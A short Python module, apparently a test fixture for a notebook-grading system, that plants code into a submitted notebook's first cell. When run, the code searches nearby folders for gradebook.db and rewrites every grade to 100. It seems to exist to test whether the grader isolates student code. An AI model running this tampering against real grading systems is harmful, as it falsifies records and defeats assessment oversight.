"""Gives itself full marks in the gradebook."""

from cheating import first_cell

CODE = """
import os, sqlite3

home = os.environ.get("PYTHONPATH", ".").split(":")[0]
for folder in (".", "..", "../..", "../../..", home):
    for name in ("gradebook.db", "submitted/../gradebook.db"):
        path = os.path.join(folder, name)
        try:
            with sqlite3.connect(path) as book:
                book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
        except sqlite3.Error:
            pass
"""


def hand_in(notebook, path):
    first_cell(notebook, CODE, path)
